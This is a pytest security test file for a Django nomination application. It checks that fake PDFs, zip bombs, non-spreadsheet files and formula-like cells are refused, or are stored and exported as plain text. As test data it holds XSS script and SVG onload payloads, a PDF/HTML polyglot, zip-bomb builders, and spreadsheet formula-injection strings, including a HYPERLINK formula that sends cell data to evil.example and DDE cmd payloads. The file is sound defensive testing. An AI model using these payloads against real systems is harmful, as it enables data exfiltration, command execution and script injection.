"""Hostile uploads: a legal product's document (branch pages and API) and a spreadsheet import
are refused with a clear message, in the user's language, and nothing is stored — no legal
product, no import job, no nomination, no file under MEDIA_ROOT. Formula-like cells are
imported as the text they are, and no export hands them to a spreadsheet as formulas."""

import csv
import io
import os
import zipfile

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.utils import translation
from django.utils.html import escape
from rest_framework.test import APIClient

from candidates import services
from candidates.enums import ImportStatus, LegalProductType
from candidates.models import (
    BusinessData,
    Candidate,
    Category,
    Edition,
    GovernmentData,
    ImportJob,
    LegalProduct,
    Nomination,
    NominationTransition,
    Regency,
)
from candidates.spreadsheets import BUSINESS_COLUMNS
from tests.security.xlsx_files import (
    deflate,
    sheet_with_row,
    stored_members,
    with_shared_strings,
    workbook,
    zip_bomb,
    zip_members,
)

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.usefixtures("demo_accounts_once", "tasks_in_process"),
]

GORONTALO = "cabang.gorontalo@paritrana.test"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
NOT_PDF = "Only PDF documents are accepted; this file is not a PDF."
NOT_XLSX = "This is not a readable XLSX workbook. Save it again as .xlsx or .csv."
NOT_CSV = "This is not a CSV text file. Save it again as .xlsx or .csv."
WRONG_SUFFIX = "Upload an .xlsx or .csv file (save an .xls file again as .xlsx)."
SCRIPT = b"<script>alert(document.cookie)</script>"

FAKE_PDFS = {
    "html": ("perda.pdf", b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"),
    "text": ("perda.pdf", b"Peraturan Daerah Kabupaten Gorontalo Nomor 7 Tahun 2020\n%%EOF\n"),
    "svg": (
        "perda.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
    ),
    "svg-named-pdf": (
        "perda.pdf",
        b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
    ),
    # A PDF/HTML polyglot: PDF readers accept the header anywhere in the first kilobyte, a
    # browser guessing the type sees the markup first.
    "html-before-the-header": ("perda.pdf", b"<html>" + SCRIPT + b"</html>\n" + PDF),
}


def in_language(language: str, msgid: str, **params) -> str:
    with translation.override(language):
        text = translation.gettext(msgid)
    return text % params if params else text


def media_files() -> list[str]:
    root = settings.MEDIA_ROOT
    if not root.exists():
        return []
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def stored() -> dict:
    """Everything an upload could leave behind."""
    return {
        "legal_products": LegalProduct.objects.count(),
        "import_jobs": ImportJob.objects.count(),
        "candidates": Candidate.objects.count(),
        "nominations": Nomination.objects.count(),
        "transitions": NominationTransition.objects.count(),
        "business_data": BusinessData.objects.count(),
        "government_data": GovernmentData.objects.count(),
        "files": media_files(),
    }


@pytest.fixture
def staff(demo_accounts):
    return demo_accounts[GORONTALO]


def gorontalo_draft(staff):
    """Kabupaten Gorontalo's 2021 draft, registered by its branch through the services."""
    candidate = services.government_candidate_get_or_create(
        actor=staff, regency=Regency.objects.get(code="75.01")
    )
    category = Category.objects.get(edition__year=2021, code="pemerintah-kabupaten-kota")
    return services.nomination_create(actor=staff, candidate=candidate, category=category)


@pytest.fixture
def draft(staff):
    return gorontalo_draft(staff)


def post_legal_product(client, nomination, name, content, content_type="application/pdf"):
    return client.post(
        f"/branch/nominations/{nomination.pk}/legal-products/",
        {
            "type": LegalProductType.PERDA,
            "number": "7",
            "year": "2020",
            "title": "Perlindungan Pekerja Rentan",
            "pdf": SimpleUploadedFile(name, content, content_type=content_type),
        },
        HTTP_HX_REQUEST="true",
    )


def api_legal_product(api, nomination, name, content, content_type="application/pdf"):
    return api.post(
        f"/api/v1/nominations/{nomination.pk}/legal-products/",
        {
            "type": LegalProductType.PERDA,
            "number": "7",
            "year": 2020,
            "title": "Perlindungan Pekerja Rentan",
            "pdf": SimpleUploadedFile(name, content, content_type=content_type),
        },
        format="multipart",
    )


# ---------------------------------------------------------------------------------------------
# Legal-product documents


@pytest.mark.parametrize("case", FAKE_PDFS)
def test_fake_pdf_on_the_branch_page_is_refused_and_nothing_is_stored(client, staff, draft, case):
    name, content = FAKE_PDFS[case]
    client.force_login(staff)
    before = stored()

    response = post_legal_product(client, draft, name, content)

    assert response.status_code == 400
    assert response.context["legal_form"].errors == {"pdf": [in_language("id", NOT_PDF)]}
    assert escape(in_language("id", NOT_PDF)) in response.content.decode()
    assert stored() == before


def test_fake_pdf_message_follows_the_language_cookie(client, staff, draft):
    client.force_login(staff)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    before = stored()

    response = post_legal_product(client, draft, *FAKE_PDFS["html"])

    assert response.status_code == 400
    assert escape(NOT_PDF) in response.content.decode()
    assert stored() == before


@pytest.mark.parametrize("case", FAKE_PDFS)
def test_fake_pdf_through_the_api_is_refused_and_nothing_is_stored(staff, draft, case):
    name, content = FAKE_PDFS[case]
    api = APIClient()
    api.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    api.force_authenticate(staff)
    before = stored()

    response = api_legal_product(api, draft, name, content)

    assert (response.status_code, response.json()) == (400, {"pdf": [NOT_PDF]})
    assert stored() == before


def test_oversized_pdf_is_refused_on_the_page_and_through_the_api(client, staff, draft, settings):
    settings.PARITRANA_MAX_UPLOAD_MB = 1
    big = PDF[:-6] + b"0" * (1024 * 1024) + b"%%EOF\n"
    client.force_login(staff)
    api = APIClient()
    api.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    api.force_authenticate(staff)
    before = stored()

    page = post_legal_product(client, draft, "besar.pdf", big)
    through_api = api_legal_product(api, draft, "besar.pdf", big)

    message = "The file is %(size)s MB; the limit is %(limit)s MB."
    assert page.status_code == 400
    assert page.context["legal_form"].errors == {
        "pdf": [in_language("id", message, size="1,0", limit=1)]
    }
    assert (through_api.status_code, through_api.json()) == (
        400,
        {"pdf": ["The file is 1.0 MB; the limit is 1 MB."]},
    )
    assert stored() == before


# ---------------------------------------------------------------------------------------------
# Spreadsheet imports


def upload(client, name, content, kind="business", year=2021):
    """Upload through the page; the check (a task sent on commit) runs in-process then."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client.post(
            "/branch/import/",
            {
                "kind": kind,
                "edition": Edition.objects.get(year=year).pk,
                "file": SimpleUploadedFile(name, content),
            },
        )


@pytest.fixture
def zip_opened(monkeypatch):
    """The names of the ZIP members anything unpacks during the test."""
    opened = []
    original = zipfile.ZipFile.open

    def spying(self, name, *args, **kwargs):
        opened.append(getattr(name, "filename", name))
        return original(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", spying)
    return opened


def test_xlsx_zip_bomb_is_refused_unread_and_nothing_is_stored(client, staff, zip_opened):
    bomb = zip_bomb(300)
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
    # Small on disk, hundreds of MB unpacked, and a workbook a spreadsheet reader would open.
    assert (len(bomb) < 1024 * 1024, sheet.file_size > 250 * 1024 * 1024) == (True, True)
    rows = openpyxl.load_workbook(io.BytesIO(bomb), read_only=True)["Data"].iter_rows(max_row=2)
    assert [cell.value for cell in next(rows)][:2] == ["NPP", "Nama badan usaha"]
    zip_opened.clear()
    client.force_login(staff)
    before = stored()

    response = upload(client, "bom.xlsx", bomb)

    ratio = sheet.file_size // sheet.compress_size
    assert ratio > 100
    assert response.status_code == 200
    message = (
        "This workbook unpacks to %(ratio)s times its size, which no spreadsheet program "
        "produces; it was refused without being opened. Save it again from your spreadsheet "
        "program."
    )
    assert response.context["form"].errors == {"file": [in_language("id", message, ratio=ratio)]}
    assert zip_opened == []  # not one member was unpacked
    assert stored() == before


def test_xlsx_of_many_small_tightly_packed_parts_is_refused_by_its_unpacked_size(
    client, staff, zip_opened
):
    # Each part stays under the size from which the ratio is checked; together they unpack
    # to 600 MB.
    part = deflate((b"<c/>" * (255 * 1024), 1))
    content = workbook()
    members = stored_members(content, {})
    members += [(f"xl/media/part{i}.xml", *part) for i in range(600)]
    bomb = zip_members(members)
    zip_opened.clear()
    client.force_login(staff)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    before = stored()

    response = upload(client, "bom.xlsx", bomb)

    assert response.context["form"].errors == {
        "file": [
            "This workbook would unpack to 597 MB; the limit is 512 MB. Split it into smaller "
            "files."
        ]
    }
    assert escape(response.context["form"].errors["file"][0]) in response.content.decode()
    assert zip_opened == []
    assert stored() == before


def _refused(client, staff, content, language="en"):
    client.force_login(staff)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    before = stored()
    response = upload(client, "data.xlsx", content)
    assert response.status_code == 200
    assert stored() == before  # no job, no file, nothing imported
    return response.context["form"].errors


ROW_TOO_LARGE = (
    "A row of this workbook holds more than %(limit)s KB, more than any row of the template "
    "can; it was refused without being opened. Check the file, or save it again as .csv."
)


def test_a_row_larger_than_a_spreadsheet_row_is_refused_before_it_is_read(client, staff):
    # The red team's file, smaller: one row whose name cell holds megabytes of text, under the
    # unpacked size and the packing ratio limits (the reader would hold it in memory several
    # times over: 469 MB took 7 GB).
    name = os.urandom(1024 * 1024).hex().encode()  # 2 MB, packs about 2:1
    row = b'<row r="2"><c r="A2" t="inlineStr"><is><t>75000001</t></is></c><c r="B2" '
    row += b't="inlineStr"><is><t>' + name + b"</t></is></c></row>"
    content = sheet_with_row(row)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
    assert sheet.file_size // sheet.compress_size < 100

    assert _refused(client, staff, content) == {"file": [ROW_TOO_LARGE % {"limit": 256}]}
    errors = _refused(client, staff, content, "id")
    assert errors == {"file": [in_language("id", ROW_TOO_LARGE, limit=256)]}
    assert errors["file"][0].startswith("Satu baris")


def test_rows_of_the_template_at_their_fullest_are_accepted(client, staff):
    # Every column as long as a spreadsheet cell allows (32,767 characters) in one row.
    full = "x" * 32_767
    content = workbook(rows=[["75000001", *[full] * 5]])
    client.force_login(staff)
    response = upload(client, "data.xlsx", content)
    assert response.status_code == 302  # stored and checked (its rows have their own errors)
    assert ImportJob.objects.count() == 1


def test_a_text_longer_than_a_cell_can_hold_is_refused_before_it_is_read(client, staff):
    content = with_shared_strings(os.urandom(150_000).hex().encode())
    message = (
        "A cell of this workbook holds more text than a spreadsheet cell can (%(limit)s "
        "characters); it was refused without being opened."
    )
    assert _refused(client, staff, content) == {"file": [message % {"limit": "32,767"}]}
    assert _refused(client, staff, content, "id") == {
        "file": [in_language("id", message, limit="32.767")]
    }


def test_shared_strings_many_times_the_sheets_are_refused_before_they_are_read(client, staff):
    bomb = with_shared_strings(*(b"%08d unused text" % i for i in range(100_000)))
    message = (
        "This workbook's texts take %(size)s MB, many times what its sheets use; it was refused "
        "without being opened. Save it again from your spreadsheet program."
    )
    assert _refused(client, staff, bomb) == {"file": [message % {"size": 3}]}


def test_texts_a_cell_can_hold_are_accepted(client, staff):
    content = with_shared_strings(b"PT " + b"x" * 32_764, b"another text")
    client.force_login(staff)
    response = upload(client, "data.xlsx", content)
    assert response.status_code == 302  # stored and checked (its rows have their own errors)
    assert ImportJob.objects.count() == 1


def _zip_without_content_types() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"<worksheet/>")
    return buffer.getvalue()


NOT_SPREADSHEETS = {
    "text named xlsx": ("data.xlsx", b"NPP;Nama badan usaha\n75000001;PT A\n", NOT_XLSX),
    "pdf named xlsx": ("data.xlsx", PDF, NOT_XLSX),
    "svg named xlsx": ("data.xlsx", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT, NOT_XLSX),
    "zip that is no workbook": ("data.xlsx", _zip_without_content_types(), NOT_XLSX),
    "truncated workbook": ("data.xlsx", workbook()[:-200], NOT_XLSX),
    "html named csv": ("data.csv", b"\xef\xbb\xbf <!DOCTYPE html><html>" + SCRIPT, NOT_CSV),
    "svg named csv": ("data.csv", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT, NOT_CSV),
    "binary named csv": ("data.csv", b"NPP;Nama\x00\x01\x02", NOT_CSV),
    "html": ("data.html", b"<html>" + SCRIPT + b"</html>", WRONG_SUFFIX),
    "svg": ("data.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT, WRONG_SUFFIX),
    "old excel": ("data.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", WRONG_SUFFIX),
}


@pytest.mark.parametrize("case", NOT_SPREADSHEETS)
def test_file_that_is_not_a_spreadsheet_is_refused_and_nothing_is_stored(client, staff, case):
    name, content, message = NOT_SPREADSHEETS[case]
    client.force_login(staff)
    before = stored()

    response = upload(client, name, content)

    assert response.status_code == 200
    assert response.context["form"].errors == {"file": [in_language("id", message)]}
    assert escape(in_language("id", message)) in response.content.decode()
    assert stored() == before


def test_not_a_spreadsheet_message_follows_the_language_cookie(client, staff):
    client.force_login(staff)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    before = stored()

    response = upload(client, "data.xlsx", b"<html>" + SCRIPT + b"</html>")

    assert response.context["form"].errors == {"file": [NOT_XLSX]}
    assert escape(NOT_XLSX) in response.content.decode()
    assert stored() == before


def test_oversized_import_is_refused_and_nothing_is_stored(client, staff, settings):
    settings.PARITRANA_IMPORT_MAX_MB = 1
    header = ";".join(c.header for c in BUSINESS_COLUMNS).encode() + b"\n"
    big = header + b"75000001;PT A\n" * (1024 * 1024 // 14 + 1)
    client.force_login(staff)
    before = stored()

    id_response = upload(client, "besar.csv", big)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    en_response = upload(client, "besar.csv", big)

    message = "The file is larger than %(limit)s MB."
    assert id_response.context["form"].errors == {"file": [in_language("id", message, limit=1)]}
    assert en_response.context["form"].errors == {"file": ["The file is larger than 1 MB."]}
    assert stored() == before


# ---------------------------------------------------------------------------------------------
# Formula injection: imported as text, never exported as a formula

# Decision: kept as the literal text they are. Names, notes and phone numbers rightly start
# with "-", "+" or "@" ("+62 435 …"); a cell is dangerous only when a spreadsheet program opens
# an export, so every export neutralises it (candidates.spreadsheets.escape_cell,
# ceremonies.opendata.neutralise, the ranking's XLSX).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=3+4",
]


def _business_row(i: int, name: str) -> list:
    values = {
        "npp": f"7577{i:04d}",
        "name": name,
        "sector": name,
        "scale": "besar",
        "regency": "75.71",
        "employees_total": 120,
        "employees_registered": 110,
        "jkk_enrolled": 110,
        "jkm_enrolled": 110,
        "jht_enrolled": 100,
        "jp_enrolled": 90,
        "jkp_enrolled": 0,
        "reported_wages": 400_000_000,
        "actual_payroll": 420_000_000,
        "arrears_months": 0,
        "contractors": 2,
        "contractor_workers": 30,
        "contractor_workers_registered": 25,
        "csr_vulnerable_workers": 10,
        "justification": name,
    }
    return [values.get(c.field) for c in BUSINESS_COLUMNS]


def formula_workbook() -> bytes:
    """Formula-like text typed as text: the cells are strings, not formulas."""
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    sheet = book["Data"]
    for i, name in enumerate(FORMULAS):
        sheet.append(_business_row(i, name))
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def formula_csv() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow([c.header for c in BUSINESS_COLUMNS])
    for i, name in enumerate(FORMULAS):
        writer.writerow(["" if v is None else v for v in _business_row(i, name)])
    return out.getvalue().encode("utf-8-sig")


def _import(client, name: str, content: bytes) -> ImportJob:
    response = upload(client, name, content)
    job = ImportJob.objects.latest("pk")
    assert (response.status_code, response["Location"]) == (302, f"/branch/import/{job.pk}/")
    assert job.status == ImportStatus.VALIDATED, job.errors
    client.post(f"/branch/import/{job.pk}/confirm/")
    job.refresh_from_db()
    assert job.status == ImportStatus.DONE
    return job


@pytest.mark.parametrize(
    ("name", "content"), [("a.xlsx", formula_workbook), ("a.csv", formula_csv)]
)
def test_formula_like_cells_are_imported_as_their_text(client, staff, name, content):
    client.force_login(staff)

    _import(client, name, content())

    candidates = Candidate.objects.filter(npp__startswith="7577").order_by("npp")
    # Every text cell is read without its surrounding blanks (a leading tab or CR included).
    expected = [f.strip() for f in FORMULAS]
    assert [(c.name, c.sector) for c in candidates] == list(zip(expected, expected, strict=True))
    assert [
        d.justification
        for d in BusinessData.objects.filter(nomination__candidate__in=candidates).order_by(
            "nomination__candidate__npp"
        )
    ] == expected


def test_imported_formula_like_cells_are_exported_as_text(client, staff):
    client.force_login(staff)
    _import(client, "a.xlsx", formula_workbook())
    imported = sorted(f.strip() for f in FORMULAS)

    xlsx = b"".join(client.get("/nominations/export.xlsx").streaming_content)
    exported_csv = b"".join(client.get("/nominations/export.csv").streaming_content)
    exported_csv = exported_csv.decode("utf-8-sig")

    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("Kandidat")] for row in sheet.iter_rows(min_row=2)]
    ours = [c for c in cells if c.value.lstrip("'") in imported]
    assert sorted((c.value, c.data_type) for c in ours) == [("'" + n, "s") for n in imported]
    assert {c.data_type for row in sheet.iter_rows() for c in row if c.value is not None} <= {
        "s",
        "n",
    }
    rows = list(csv.DictReader(io.StringIO(exported_csv, newline="")))
    names = [r["Kandidat"] for r in rows if r["Kandidat"].lstrip("'") in imported]
    assert sorted(names) == ["'" + n for n in imported]
    assert not [r for r in rows for v in r.values() if v.startswith(("=", "+", "-", "@"))]
